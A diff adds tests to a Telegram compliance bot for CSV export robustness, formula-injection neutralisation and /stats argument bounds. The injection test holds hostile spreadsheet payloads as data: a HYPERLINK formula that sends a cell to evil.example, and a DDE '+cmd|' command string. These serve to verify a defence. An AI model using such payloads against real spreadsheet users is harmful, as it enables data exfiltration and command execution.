@@ -182,3 +182,60 @@ async def test_stats_renders_the_figures_the_digest_and_the_cli_show(harness, mo
                                    "Flags by status: confirmed 2, pending 5")
     [(start, end)] = periods
     assert end - start == 30 * 86400
+
+
+# -- finding 1: one row /export cannot render stops nothing --------------------------------------------------
+
+async def test_export_sends_every_row_when_a_stored_date_or_score_cannot_be_rendered(bot_factory, tmp_path):
+    from tests.test_flag_export import UNRENDERABLE_DATES, unrenderable_db
+
+    harness = await bot_factory(storage=unrenderable_db(tmp_path / "old.db"))
+    await harness.send(U.command("/export", MODS))
+    [doc] = harness.api.calls_to("sendDocument")
+    content = next(iter(doc.files.values()))[1].decode()
+    assert content == cli_csv(harness.storage)
+    rows = list(csv.DictReader(io.StringIO(content)))
+    assert [int(r["message_id"]) for r in rows] == list(range(1, 11))
+    assert [r["date"] for r in rows if int(r["message_id"]) in UNRENDERABLE_DATES] == [""] * len(UNRENDERABLE_DATES)
+    assert (rows[0]["reviewed_at"], rows[7]["score"], rows[8]["score"], rows[9]["reasons"]) == ("", "", "", "")
+    assert rows[9]["text"] == "Presale number 10"
+
+
+# -- finding 5: CSV formula injection through /export --------------------------------------------------------
+
+async def test_export_neutralises_cells_that_begin_like_a_formula(harness, tmp_path):
+    title = '=HYPERLINK("http://evil.example/?"&A1,"Gems")'
+    await harness.send(U.channel_post(1, "+cmd|' /C calc'!A0 presale", chat={"id": -1004444444444, "type": "channel",
+                                                                           "title": title}))
+    await harness.send(U.channel_post(2, "-2+3 airdrop\t@SUM(1)"))
+    [first, second] = harness.storage.all_flags()
+    harness.storage.record_review(first["alert_id"], "confirm", None, 111, "@evil")
+    await harness.send(U.command("/export", MODS))
+    [doc] = harness.api.calls_to("sendDocument")
+    content = next(iter(doc.files.values()))[1].decode()
+    rows = list(csv.DictReader(io.StringIO(content)))
+    assert (rows[0]["chat_title"], rows[0]["text"], rows[0]["reviewed_by"]) == (
+        f"'{title}", "'+cmd|' /C calc'!A0 presale", "'@evil (111)")
+    assert (rows[1]["text"], rows[1]["chat_title"], rows[1]["chat_id"]) == ("'-2+3 airdrop\t@SUM(1)", "Crypto Gems",
+                                                                            "-1001234567890")
+    assert content == cli_csv(harness.storage)  # the same file as `compliance-bot export`
+    # What is stored stays verbatim.
+    assert harness.storage.all_flags()[0]["chat_title"] == title
+
+
+# -- finding 6: /stats takes the same bound as `compliance-bot stats` -----------------------------------------
+
+async def test_stats_refuses_a_period_out_of_range_with_a_clear_message(harness):
+    from bot.commands import MAX_STATS_DAYS
+
+    await harness.send(U.channel_post(1, "Presale live"))
+    refusal = f"/stats takes a whole number of days from 1 to {MAX_STATS_DAYS}, e.g. /stats 30."
+    for arg in ("1e308", "inf", "-inf", "nan", "1000000", "3651", "0", "-5", "abc", "7.5", "9" * 5000):
+        await harness.send(U.command(f"/stats {arg}", MODS))
+        assert last_reply(harness) == refusal, arg
+    await harness.send(U.command(f"/stats {MAX_STATS_DAYS}", MODS))
+    assert last_reply(harness).startswith(f"<b>Last {MAX_STATS_DAYS} days</b>") and "ico 1" in last_reply(harness)
+    await harness.send(U.command("/stats", MODS))
+    assert last_reply(harness).startswith("<b>Last 7 days</b>")
+    await harness.send(U.command("/stats 1", MODS))
+    assert last_reply(harness).startswith("<b>Last 1 days</b>")
